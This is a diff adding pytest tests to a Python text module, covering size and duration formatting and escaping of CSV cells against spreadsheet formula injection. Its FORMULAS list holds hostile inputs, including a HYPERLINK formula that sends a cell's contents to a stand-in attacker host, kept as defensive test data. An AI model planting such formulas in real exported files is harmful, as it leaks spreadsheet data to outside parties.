@@ -1,8 +1,20 @@
 """What others wrote can't forge a log line or command a terminal."""
 
+import csv
+import io
+import re
+from decimal import Decimal
+
 import pytest
 
-from airflow_multicloud.text import printable
+from airflow_multicloud.text import (
+    csv_cell,
+    duration_text,
+    from_csv_cell,
+    printable,
+    size_text,
+    write_csv,
+)
 
 
 @pytest.mark.parametrize(
@@ -23,3 +35,77 @@ from airflow_multicloud.text import printable
 def test_what_does_not_show_is_escaped_once(given: str, shown: str) -> None:
     assert printable(given) == shown
     assert printable(printable(given)) == shown
+
+
+@pytest.mark.parametrize(
+    ("size", "of", "shown"),
+    [
+        (0, None, "0 bytes"),
+        (999, None, "999 bytes"),
+        (11_673, None, "11.7 kB"),
+        (412e6, 900e6, "412 of 900 MB"),
+        (41e3, 900e6, "0.0 of 900 MB"),
+        (999_999, None, "1.0 MB"),
+        (5.5e9, 12e9, "5.5 of 12.0 GB"),
+        (3e18, None, "3000 PB"),
+    ],
+)
+def test_sizes(size: float, of: float | None, shown: str) -> None:
+    assert size_text(size, of) == shown
+
+
+@pytest.mark.parametrize(
+    ("seconds", "shown"),
+    [
+        (0, "0 s"),
+        (0.0031, "3 ms"),
+        (45.4, "45.4 s"),
+        (125, "2 min 5 s"),
+        (3600, "1 h"),
+        (3600 * 3 + 60 * 20 + 5, "3 h 20 min"),
+        (86400 * 2 + 3600 * 3, "2 d 3 h"),
+        (-90, "−1 min 30 s"),  # noqa: RUF001
+    ],
+)
+def test_durations(seconds: float, shown: str) -> None:
+    assert duration_text(seconds) == shown
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "+1+1",
+    "-1+1",
+    "-x",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "  =1",
+    "\n=1",
+    "＝1",  # noqa: RUF001
+    "a;=1",  # where a semicolon parts cells
+    "a\t@x",
+]
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, "'=1", "''=1", "a;'=1", "'", "O'Neill", "a-b", ""])
+def test_what_is_done_to_a_cell_can_be_undone(text: str) -> None:
+    cell = csv_cell(text)
+    assert isinstance(cell, str)
+    assert from_csv_cell(cell) == text
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_formula_reaches_a_spreadsheet(text: str) -> None:
+    out = io.StringIO()
+    write_csv(out, ["name", text], [{"name": text, text: None}])
+    head, row = csv.reader(io.StringIO(out.getvalue(), newline=""))
+    assert row == [head[1], ""]
+    for cell in re.split(r"[;\t\r\n]", row[0]):
+        assert not re.match(r"\s*[=+\-@＝]", cell)  # noqa: RUF001
+
+
+@pytest.mark.parametrize(
+    "value", [Decimal("-0.51"), -1, "-0.51", "+3", "1E-7", "-1.5e+3", ".5", "a b", "a+b", "(none)"]
+)
+def test_numbers_and_common_text_stay_as_they_are(value: object) -> None:
+    assert csv_cell(value) == value
